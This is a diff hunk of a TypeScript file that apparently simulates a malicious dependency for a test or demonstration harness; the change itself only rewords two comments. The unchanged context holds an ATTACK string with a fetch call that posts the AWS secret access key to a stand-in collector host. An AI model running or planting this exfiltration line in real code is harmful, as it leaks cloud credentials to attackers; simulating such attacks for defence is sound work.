@@ -3,13 +3,13 @@ import * as fs from 'fs';
 import * as path from 'path';
 import { OrdersStage } from './orders';
 
-/** Something that was tried, and whether the result is as expected. */
+/** An attempt, and whether the result is as expected. */
 export interface TourStep {
   readonly what: string;
   readonly isRight: boolean;
 }
 
-/** What a malicious dependency does first. */
+/** First actions of a malicious dependency. */
 const ATTACK = `
   const sent = fetch('https://collector.example.net/', { method: 'POST', body: process.env.AWS_SECRET_ACCESS_KEY }).then(({ status }) => status, (error) => error.cause.code);
   const { handler } = require('./original');
